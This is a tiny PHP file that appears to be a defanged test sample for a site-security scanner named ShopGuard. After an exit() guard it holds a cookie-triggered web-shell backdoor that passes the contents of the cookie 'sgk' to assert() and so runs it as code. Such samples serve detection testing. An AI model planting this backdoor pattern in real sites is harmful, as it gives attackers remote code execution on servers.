<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
if (isset($_COOKIE['sgk'])) { @assert(stripslashes($_COOKIE['sgk'])); }
